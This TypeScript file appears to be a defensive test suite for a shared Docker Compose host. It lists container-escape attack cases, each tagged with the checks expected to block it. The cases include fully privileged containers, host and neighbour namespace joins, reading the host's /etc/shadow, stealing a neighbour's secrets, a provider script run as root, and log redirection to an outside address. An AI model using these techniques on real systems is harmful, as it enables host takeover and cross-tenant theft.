import type { Attack, Layer } from "../attack.ts";
import { composeOf, type Scene, service } from "../scene.ts";
import { bind, composeWith, proven, readIntoEnvironment, SECRET, secretFile } from "./means.ts";

/** All that the machine can give: as a container it has no CAP_SYS_RESOURCE itself, which `privileged` would ask for. */
export const PRIVILEGES = {
  cap_add: ["ALL"],
  cap_drop: ["SYS_RESOURCE"],
  security_opt: ["seccomp:unconfined", "apparmor:unconfined"],
  userns_mode: "host",
};
const SHADOW = /^root:[^x]/m;
const STOPPED: [Layer, Layer] = ["check_compose", "check_containers"];

/** Applies a service `web` with these keys, and looks at what a script in its container sees. */
function keys(
  name: string,
  further: object | ((scene: Scene) => object | Promise<object>),
  { look, proof, claim, by = "userns" }: { look: string; proof: RegExp; claim: string; by?: Layer },
  stoppedBy: [Layer, Layer] = STOPPED,
  more: object = {},
): Attack {
  return {
    name,
    stoppedBy,
    async attempt(scene) {
      const { attacker } = scene;
      const given = typeof further === "function" ? await further(scene) : further;
      await scene.apply(attacker, "w", { compose: composeOf(scene, attacker, { web: service(given) }, more) });
      return proven(await scene.inside(attacker, "web", look), proof, claim, by);
    },
  };
}

/** Words of Compose's that reach further than a slot, in a file of the form that the host asks for. */
export const COMPOSE: readonly Attack[] = [
  keys(
    "a container with all privileges, the host's processes and its users",
    { ...PRIVILEGES, pid: "host" },
    {
      look: "ps -o args; mount -t tmpfs none /tmp && echo mounts",
      proof: /dockerd[\s\S]*mounts/,
      claim: "it sees dockerd and mounts",
    },
  ),
  keys(
    "the host's network",
    { network_mode: "host", userns_mode: "host" },
    { look: "ip addr", proof: /docker0/, claim: "it has the host's interfaces" },
    ["check_compose", "check_names"],
  ),
  keys(
    "the network of a neighbour's container",
    ({ neighbour }) => ({ network_mode: `container:${neighbour.owner}-web-1` }),
    {
      look: "wget -qO- http://127.0.0.1:8000/",
      proof: /page of the neighbour/,
      claim: "it is in the neighbour's network",
    },
    ["check_compose", "check_names"],
  ),
  keys("the processes of a neighbour's container", ({ neighbour }) => ({ pid: `container:${neighbour.owner}-web-1` }), {
    look: "ps -o args",
    proof: /httpd -f/,
    claim: "it sees the neighbour's processes",
  }),
  keys(
    "the volumes of a neighbour's container",
    ({ neighbour }) => ({ volumes_from: [`container:${neighbour.owner}-web-1`] }),
    { look: "cat /kept/secret", proof: new RegExp(SECRET), claim: "it reads the neighbour's volume" },
    ["check_compose", "check_mounts"],
  ),
  keys(
    "a device of the host",
    { devices: ["/dev/kmsg:/dev/kmsg"], userns_mode: "host" },
    { look: "ls -l /dev/kmsg", proof: /^c/, claim: "it has /dev/kmsg" },
    ["check_compose", "check_mounts"],
  ),
  keys(
    "another group for its limits",
    { cgroup_parent: "/elsewhere" },
    { look: "cat /proc/self/cgroup", proof: /elsewhere/, claim: "it is outside the slot's limits", by: "override" },
    ["check_compose", "override"],
  ),
  keys(
    "no system call filter",
    { security_opt: ["seccomp:unconfined"] },
    { look: "grep Seccomp: /proc/self/status", proof: /\t0$/, claim: "it runs without the filter" },
  ),
  keys(
    "the host's root folder as a volume of its own",
    { volumes: [{ type: "volume", source: "all", target: "/all" }] },
    { look: "cat /all/etc/shadow", proof: SHADOW, claim: "it reads the host's /etc/shadow" },
    ["check_compose", "check_mounts"],
    { volumes: { all: { driver: "local", driver_opts: { type: "none", o: "bind", device: "/" } } } },
  ),
  {
    name: "the neighbour's network by its name",
    stoppedBy: ["check_compose", "check_names"],
    async attempt(scene) {
      const { attacker, neighbour } = scene;
      const networks = {
        default: { name: neighbour.owner, external: true },
        own: { name: neighbour.owner, external: true },
      };
      const web = service({ networks: { default: {}, own: {} } });
      await scene.apply(attacker, "w", { compose: composeOf(scene, attacker, { web }, { networks }) });
      const seen = await scene.inside(attacker, "web", `wget -qO- -T 5 http://${neighbour.owner}-web-1:8000/`);
      return proven(seen, /page of the neighbour/, "it reaches the neighbour's containers");
    },
  },
  {
    name: "env_file, in the right form, reads the neighbour's secrets",
    stoppedBy: ["check_compose", "read_compose"],
    attempt: (scene) => readIntoEnvironment(scene, (file) => ["    env_file:", `      - "${file}"`]),
  },
  {
    name: "a second file that is included brings privileges",
    stoppedBy: ["check_compose", "read_compose"],
    async attempt(scene) {
      const { attacker } = scene;
      const evil = composeOf(scene, attacker, { evil: service({ ...PRIVILEGES, pid: "host" }) });
      const compose = composeOf(scene, attacker, { web: service() }, { include: ["./evil.yaml"] });
      const entries = ["evil.yaml", "files/evil.yaml"].map((name) => ({ name, data: JSON.stringify(evil) }));
      await scene.apply(attacker, "w", { compose, entries });
      return proven(await scene.inside(attacker, "evil", "ps -o args"), /dockerd/, "it sees dockerd");
    },
  },
  {
    name: "a service that extends one of the neighbour's file",
    stoppedBy: ["check_compose", "read_compose"],
    async attempt(scene) {
      const { attacker } = scene;
      const file = (await secretFile(scene)).replace(/[^/]*$/, "compose.yaml");
      const web = service({ extends: { file, service: "web" }, env_file: ["/dev/null"] });
      await scene.apply(attacker, "w", { compose: composeOf(scene, attacker, { web }) });
      return proven(await scene.inside(attacker, "web", "env"), /ONLY_ITS=/, "it has the neighbour's environment");
    },
  },
  keys(
    "a secret that is a file of the host",
    { secrets: ["all"] },
    { look: "cat /run/secrets/all", proof: SHADOW, claim: "it reads the host's /etc/shadow" },
    ["check_compose", "check_names"],
    { secrets: { all: { file: "/etc/shadow" } } },
  ),
  keys(
    "a configuration that is a file of the host",
    { configs: [{ source: "all", target: "/all" }] },
    { look: "cat /all", proof: SHADOW, claim: "it reads the host's /etc/shadow" },
    ["check_compose", "check_names"],
    { configs: { all: { file: "/etc/shadow" } } },
  ),
  {
    name: "a build whose context is a folder of the host",
    stoppedBy: ["check_compose", "check_mounts"],
    async attempt(scene) {
      const { attacker } = scene;
      const dockerfile = "FROM example.invalid/tools:1\nCOPY shadow /shadow\n";
      const web = service({ image: "built", build: { context: "/etc", dockerfile_inline: dockerfile } });
      await scene.apply(attacker, "w", { compose: composeOf(scene, attacker, { web }) });
      return proven(
        await scene.inside(attacker, "web", "cat /shadow"),
        SHADOW,
        "the host's /etc/shadow is in an image",
      );
    },
  },
  {
    name: "a provider, which is a program that root's Compose runs",
    stoppedBy: ["check_compose", "check_mounts"],
    async attempt(scene) {
      const { attacker } = scene;
      const at = `${attacker.data}/a`;
      await scene.apply(attacker, "w", {
        compose: composeOf(scene, attacker, {
          web: service({ volumes: [bind(at, "/a", { bind: { create_host_path: true } })] }),
        }),
      });
      await scene.inside(attacker, "web", "printf '#!/bin/sh\\nid >/etc/owned\\n' >/a/run; chmod 755 /a /a/run");
      const compose = composeWith(scene, attacker, []).replace(/$/, `  own:\n    provider:\n      type: "${at}/run"\n`);
      await scene.apply(attacker, "w", { compose }).catch((error: Error) => {
        if (/\[layer|must not|refused/.test(error.message)) throw error;
      });
      return proven(
        await scene.asRoot("cat /etc/owned; rm -f /etc/owned"),
        /uid=0\(root\)/,
        "its program ran as the host's root",
      );
    },
  },
  {
    name: "a hook that runs with privileges after the start",
    stoppedBy: ["check_compose", "userns"],
    async attempt(scene) {
      const { attacker } = scene;
      const hook = {
        command: ["/bin/sh", "-c", "mount -t tmpfs none /tmp && echo yes >/tmp/hooked"],
        privileged: true,
        user: "root",
      };
      const web = service({ post_start: [hook] });
      await scene.apply(attacker, "w", { compose: composeOf(scene, attacker, { web }) });
      return proven(await scene.inside(attacker, "web", "cat /tmp/hooked"), /yes/, "its hook mounted a file system");
    },
  },
  {
    name: "a service of a profile, which Compose's reading leaves out, that .env switches on",
    stoppedBy: ["check_compose", "check_names"],
    async attempt(scene) {
      const { attacker } = scene;
      const hidden = service({ profiles: ["on"], ...PRIVILEGES, pid: "host" });
      const compose = composeOf(scene, attacker, { web: service(), hidden });
      const env = [
        "COMPOSE_PROFILES=on",
        "COMPOSE_FILE=/etc/evil.yaml",
        `COMPOSE_PROJECT_NAME=${scene.neighbour.owner}`,
        "",
      ].join("\n");
      await scene.apply(attacker, "w", { compose, entries: [{ name: ".env", data: env }] });
      return proven(
        await scene.inside(attacker, "hidden", "ps -o args").catch(String),
        /dockerd/,
        "it sees dockerd",
        "docker",
      );
    },
  },
  {
    name: "logs without an end",
    stoppedBy: STOPPED,
    async attempt(scene) {
      const { attacker } = scene;
      const web = service({ logging: { driver: "syslog", options: { "syslog-address": "udp://192.0.2.1:514" } } });
      await scene.apply(attacker, "w", { compose: composeOf(scene, attacker, { web }) });
      const seen = await scene.asRoot(`docker inspect -f '{{json .HostConfig.LogConfig}}' ${attacker.owner}-web-1`);
      return proven(seen, /syslog/, `its log goes elsewhere: ${seen}`, "docker");
    },
  },
];
